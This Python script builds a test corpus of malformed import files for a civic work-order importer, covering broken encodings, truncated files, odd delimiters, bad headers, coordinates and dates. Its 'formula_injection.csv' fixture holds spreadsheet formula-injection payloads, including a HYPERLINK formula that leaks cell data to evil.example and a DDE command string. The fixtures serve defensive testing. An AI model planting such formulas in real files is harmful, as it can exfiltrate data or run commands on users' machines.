"""The bad-file corpus of tests/test_bad_files.py: python tests/data/bad/make_bad_files.py."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import random
import zipfile
from pathlib import Path

import openpyxl

HERE = Path(__file__).parent
HEADER = [
    "id",
    "category",
    "lng",
    "lat",
    "reported_at",
    "description",
    "source",
    "status",
    "address",
]
#: The same fields under the headers of a 12345 work-order export.
CHINESE = ["工单编号", "小类", "经度", "纬度", "受理时间", "主要内容", "来源", "工单状态", "地址"]
FIXED_TIME = dt.datetime(2026, 11, 1, 9, 0, 0)


def row(i: int, **changes: str) -> dict[str, str]:
    """A good report row inside the test town (tests/conftest.py), ``changes`` applied."""
    good = {
        "id": f"BAD-{i:04d}",
        "category": "abandoned_vehicle",
        "lng": f"{116.301 + (i % 17) * 0.001:.6f}",
        "lat": f"{39.781 + (i % 7) * 0.001:.6f}",
        "reported_at": f"2026-10-{1 + i % 28:02d} 08:{i % 60:02d}:00",
        "description": f"小区内废弃车辆长期停放 {i}",
        "source": "12345热线",
        "status": "new",
        "address": f"兴旺路{i}号",
    }
    good.update(changes)
    return good


def csv_text(rows: list[dict[str, str]], *, header=HEADER, delimiter=",") -> str:
    """Rows as CSV text (values in HEADER order, written under ``header``)."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    for r in rows:
        writer.writerow([r[name] for name in HEADER])
    return out.getvalue()


def workbook(sheets: dict[str, list[list[object]]]) -> bytes:
    """An XLSX workbook with the given sheets (name -> rows), as bytes."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for r in rows:
            sheet.append(r)
    book.properties.created = book.properties.modified = FIXED_TIME
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def table_rows(rows: list[dict[str, str]], header=HEADER) -> list[list[object]]:
    """Header and rows as lists, for :func:`workbook`."""
    return [list(header)] + [[r[name] for name in HEADER] for r in rows]


def files() -> dict[str, bytes]:
    """Every corpus file: name -> content."""
    out: dict[str, bytes] = {}
    good = [row(i) for i in range(1, 4)]

    # --- encodings -------------------------------------------------------------------
    latin = csv_text([row(1), row(2, description="Café crème, pneu crevé")])
    out["latin1_text.csv"] = latin.encode("latin-1", errors="replace")
    many = [row(i) for i in range(1, 701)]
    many[650]["description"] = "MARK"
    big = csv_text(many).encode("utf-8")
    out["utf8_bad_byte_after_sample.csv"] = big.replace(b"MARK", b"\xff\xfe bad")
    out["utf16le_bom_out_of_area.csv"] = csv_text(
        [row(1), row(2, lng="116.400000", lat="39.785000"), row(3)], header=CHINESE
    ).encode("utf-16")
    out["utf16be_no_bom_missing_lat.csv"] = csv_text([row(1, lat=""), row(2)]).encode("utf-16-be")
    out["gbk_unknown_category.csv"] = csv_text(
        [row(1), row(2, category="废弃车辆"), row(3, category="小广吿")], header=CHINESE
    ).encode("gbk")
    out["gb18030_future_date.csv"] = csv_text(
        [row(1, address="𠮷祥路1号"), row(2, reported_at="2099-01-01 08:00:00")], header=CHINESE
    ).encode("gb18030")
    out["utf8_bom_swapped_columns.csv"] = csv_text(
        [row(i, lng=row(i)["lat"], lat=row(i)["lng"]) for i in range(1, 4)]
    ).encode("utf-8-sig")
    rng = random.Random(6)
    out["binary_garbage.csv"] = bytes(rng.randrange(256) for _ in range(4096))
    xlsx = workbook({"Sheet1": table_rows(good)})
    out["xlsx_named_csv.csv"] = xlsx
    out["legacy_xls_named_csv.csv"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(
        rng.randrange(256) for _ in range(2048)
    )
    surrogate = csv_text([row(1), row(2, description="坏字符 X")]).encode("utf-16-le")
    mark = "X".encode("utf-16-le")
    out["utf16_lone_surrogate.csv"] = b"\xff\xfe" + surrogate.replace(mark, b"\x00\xd8")

    # --- cut short, broken structure -----------------------------------------------
    text = csv_text([row(1), row(2), row(3)])
    out["truncated_mid_row.csv"] = text[: text.rindex("BAD-0003") + 40].encode("utf-8")
    out["unclosed_quote.csv"] = text.replace(
        "小区内废弃车辆长期停放 2", '"小区内废弃车辆长期停放 2'
    ).encode("utf-8")
    lines = csv_text(good).split("\r\n")
    lines[2] += ",多出来的,两列"
    out["extra_fields.csv"] = "\r\n".join(lines).encode("utf-8")
    out["truncated.xlsx"] = xlsx[: len(xlsx) * 2 // 3]

    # --- empty ----------------------------------------------------------------------
    out["empty.csv"] = b""
    out["blank_lines.csv"] = b"\r\n  \r\n\t\r\n"
    out["header_only.csv"] = csv_text([]).encode("utf-8")
    out["empty_workbook.xlsx"] = workbook({"Sheet1": []})
    out["header_only.xlsx"] = workbook({"工单": table_rows([], header=CHINESE)})
    out["data_on_second_sheet.xlsx"] = workbook(
        {
            "说明": [["填表说明"], ["1. 本表为12345工单导出"], ["2. 经纬度为WGS84"]],
            "工单数据": table_rows(good, header=CHINESE),
        }
    )

    # --- delimiters -----------------------------------------------------------------
    out["semicolon_future_date.csv"] = csv_text(
        [row(1), row(2, reported_at="2099-12-31 23:59:00"), row(3)], delimiter=";"
    ).encode("utf-8")
    out["tab_unknown_status.csv"] = csv_text(
        [row(1, status="飞走了"), row(2)], delimiter="\t"
    ).encode("utf-8")
    out["ambiguous_delimiter.csv"] = (
        b"id;category,lng;lat,reported_at\r\n"
        b"BAD-0001;abandoned_vehicle,116.305;39.785,2026-10-01\r\n"
        b"BAD-0002;abandoned_vehicle;116.306,39.785,2026-10-02\r\n"
    )
    out["space_separated.csv"] = (
        b"id category lng lat reported_at\r\n"
        b"BAD-0001 abandoned_vehicle 116.305 39.785 2026-10-01\r\n"
    )

    # --- headers --------------------------------------------------------------------
    dup = csv_text(good).split("\r\n")
    dup[0] += ",LAT"
    dup[1:4] = [line + ",39.7" for line in dup[1:4]]
    out["duplicate_header_names.csv"] = "\r\n".join(dup).encode("utf-8")
    no_xy = [{k: v for k, v in r.items() if k not in ("lng", "lat")} for r in good]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(no_xy[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(no_xy)
    out["no_coordinate_columns.csv"] = buffer.getvalue().encode("utf-8")
    twice = table_rows(good, header=CHINESE)
    twice[0].append("经度")
    for r in twice[1:]:
        r.append("116.3")
    out["duplicate_header_names.xlsx"] = workbook({"工单": twice})

    # --- bad rows -------------------------------------------------------------------
    out["dms_bad_minutes.csv"] = csv_text(
        [
            row(1, lng="116°18'10.0\"E", lat="39°47'06.0\"N"),
            row(2, lng="116°61'00\"E", lat="39°47'06\"N"),
            row(3, lng="东经116度18分20秒", lat="北纬39度47分10秒"),
        ]
    ).encode("utf-8")
    out["dms_swapped_hemispheres.csv"] = csv_text(
        [row(1, lng="39°47'06\"N", lat="116°18'30.5\"E"), row(2)]
    ).encode("utf-8")
    out["nan_in_required_fields.csv"] = csv_text(
        [
            row(1),
            row(2, category="nan"),
            row(3, lng="NaN"),
            row(4, lat="NULL"),
            row(5, reported_at="None"),
            row(6, description="NULL"),
        ]
    ).encode("utf-8")
    out["missing_coordinates.csv"] = csv_text([row(1), row(2, lng="")]).encode("utf-8")
    out["unparseable_coordinates.csv"] = csv_text(
        [row(1, lng="116.30.5"), row(2), row(3, lat="三十九度多")]
    ).encode("utf-8")
    out["projected_coordinates.csv"] = csv_text(
        [row(1, lng="440541.2", lat="4404312.7"), row(2, lng="440601.9", lat="4404410.0")]
    ).encode("utf-8")
    out["out_of_area.csv"] = csv_text([row(1), row(2, lng="116.400000", lat="39.785000")]).encode(
        "utf-8"
    )
    out["future_date.csv"] = csv_text([row(1, reported_at="2099-01-01 00:00:00"), row(2)]).encode(
        "utf-8"
    )
    out["unparseable_date.csv"] = csv_text(
        [row(1), row(2, reported_at="2026-02-30 08:00"), row(3, reported_at="上周三下午")]
    ).encode("utf-8")
    out["unknown_category.csv"] = csv_text([row(1), row(2, category="小广吿")]).encode("utf-8")
    out["duplicate_ids.csv"] = csv_text([row(1), row(2), row(3, id="BAD-0001")]).encode("utf-8")
    out["huge_address.csv"] = csv_text([row(1), row(2, address="兴旺路" + "很长" * 150)]).encode(
        "utf-8"
    )
    out["huge_description.csv"] = csv_text([row(1, description="长" * 5000), row(2)]).encode(
        "utf-8"
    )
    out["huge_id.csv"] = csv_text([row(1), row(2, id="12345-" + "9" * 80)]).encode("utf-8")
    out["control_characters.csv"] = csv_text(
        [row(1), row(2, description="废弃车辆\x07响铃"), row(3, address="兴旺路\u202e号21")]
    ).encode("utf-8")
    out["nul_in_text.csv"] = csv_text([row(1), row(2), row(3, description="废弃\x00车辆")]).encode(
        "utf-8"
    )
    out["mixed_problems.csv"] = csv_text(
        [
            row(1),
            row(2, lat="", category="僵尸车"),
            row(3, category="外星人", reported_at="明天"),
            row(4),
            row(5, lng="39.785", lat="116.305"),
            row(6, id="BAD-0004"),
        ]
    ).encode("utf-8")
    nan_cells = table_rows([row(1), row(2, lat="#N/A")], header=CHINESE)
    out["nan_cells.xlsx"] = workbook({"工单": nan_cells})

    # --- not bad: imports, neutralised on export ---------------------------------------
    out["formula_injection.csv"] = csv_text(
        [
            row(1, description='=HYPERLINK("http://evil.example/?leak="&A1,"点我")'),
            row(2, address="+cmd|' /C calc'!A0"),
            row(3, description="-2+3", address="@SUM(A1:A9)"),
        ]
    ).encode("utf-8")

    # --- other formats and uploads ---------------------------------------------------
    out["linestring.geojson"] = json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {
                    "type": "Feature",
                    "geometry": {"type": "Point", "coordinates": [116.305, 39.785]},
                    "properties": {
                        "external_id": "GJ-1",
                        "category": "abandoned_vehicle",
                        "reported_at": "2026-10-01T08:00:00",
                    },
                },
                {
                    "type": "Feature",
                    "geometry": {
                        "type": "LineString",
                        "coordinates": [[116.301, 39.781], [116.309, 39.789]],
                    },
                    "properties": {
                        "external_id": "GJ-2",
                        "category": "illegal_structure",
                        "reported_at": "2026-10-02T08:00:00",
                    },
                },
            ],
        },
        ensure_ascii=False,
        indent=1,
    ).encode("utf-8")
    out["open311_bad_status.json"] = json.dumps(
        [
            {
                "service_request_id": "311-1",
                "service_code": "abandoned_vehicle",
                "service_name": "废弃车辆",
                "lat": 39.785,
                "long": 116.305,
                "requested_datetime": "2026-10-01T08:00:00+08:00",
                "status": "open",
                "description": "僵尸车",
            },
            {
                "service_request_id": "311-2",
                "service_code": "abandoned_vehicle",
                "service_name": "废弃车辆",
                "lat": 39.786,
                "long": 116.306,
                "requested_datetime": "2026-10-02T08:00:00+08:00",
                "status": "pending",
                "description": "僵尸车",
            },
        ],
        ensure_ascii=False,
        indent=1,
    ).encode("utf-8")
    out["not_a_photo.jpg"] = "这不是照片，只是一段文字。\nnot a JPEG at all\n".encode()
    return out


def main() -> None:
    """Write every corpus file next to this script."""
    for name, data in files().items():
        (HERE / name).write_bytes(data)
    # an XLSX is a ZIP: check the truncated one really is cut and the others are whole
    for path in HERE.glob("*.xlsx"):
        whole = zipfile.is_zipfile(path)
        assert whole != (path.name == "truncated.xlsx"), path
    print(f"wrote {len(files())} files to {HERE}")


if __name__ == "__main__":
    main()
